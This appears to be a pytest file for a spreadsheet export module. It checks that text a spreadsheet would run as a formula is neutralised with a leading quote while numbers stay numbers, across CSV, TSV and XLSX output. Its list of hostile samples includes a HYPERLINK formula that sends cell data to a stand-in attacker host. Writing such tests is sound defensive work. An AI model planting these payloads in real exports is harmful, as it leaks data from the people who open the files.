"""The one export rule (core/spreadsheets.py): text a spreadsheet would run is neutralised, numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from chalicelib.core import spreadsheets

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_beginning_with_a_formula_trigger_gets_a_leading_quote(text):
    assert spreadsheets.inert(text) == "'" + text


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3, "江苏省", "a=1", "1-2", "", None, True])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert spreadsheets.inert(value) is value


def test_a_csv_keeps_its_rows_and_quotes_every_hostile_cell():
    rows = list(csv.reader(io.StringIO(spreadsheets.csv_text([list(HOSTILE), [-1, 2.5, "a\nb"]]))))
    assert rows == [["'" + t for t in HOSTILE], ["-1", "2.5", "a\nb"]]


def test_a_tsv_cell_cannot_break_its_row_or_column():
    text = spreadsheets.tsv_text([["x\ty", "a\r\nb", "\t=1", "\r=1", -1], ["next", "row", "", "", 2]])
    rows = list(csv.reader(io.StringIO(text), delimiter="\t"))
    assert rows == [["x y", "a  b", "' =1", "' =1", "-1"], ["next", "row", "", "", "2"]]
    assert text.count("\r\n") == 2 and text.count("\n") == 2  # one line per row for readers that do not quote


def test_workbook_cells_are_strings_never_formulas_and_numbers_stay_numbers():
    book = Workbook()
    spreadsheets.append(book.active, [*HOSTILE, -1, 2.5])
    spreadsheets.append(book.active, [])
    spreadsheets.append(book.active, ["after a blank row"])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    # XML reads a stored CR back as LF
    assert [c.value for c in cells[: len(HOSTILE)]] == ["'" + t.replace("\r", "\n") for t in HOSTILE]
    assert [(c.value, c.data_type) for c in cells[len(HOSTILE) : len(HOSTILE) + 2]] == [(-1, "n"), (2.5, "n")]
    assert sheet["A3"].value == "after a blank row"
